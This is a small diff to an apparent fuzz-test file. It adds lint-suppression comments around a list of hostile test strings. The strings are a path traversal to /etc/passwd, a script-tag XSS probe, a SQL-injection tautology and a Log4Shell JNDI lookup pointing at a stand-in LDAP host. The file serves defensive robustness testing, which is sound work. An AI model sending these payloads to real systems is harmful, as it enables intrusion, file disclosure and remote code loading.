@@ -39,6 +39,7 @@ const ODD_STRINGS = [
   "../../etc/passwd",
   "<script>alert(1)</script>",
   "' OR '1'='1' --",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell lookup string, sent as it is.
   "${jndi:ldap://x.test/a}",
   "NaN",
   "Infinity",
@@ -194,6 +195,7 @@ export const headerValue: fc.Arbitrary<string> = fc.oneof(
   shortHostileString.map((s) =>
     Buffer.from(s, "utf8")
       .toString("latin1")
+      // biome-ignore lint/suspicious/noControlCharactersInRegex: the control characters HTTP refuses in a header (all but tab) are taken out.
       .replace(/[\u0000-\u0008\u000a-\u001f\u007f]/g, ""),
   ),
 );
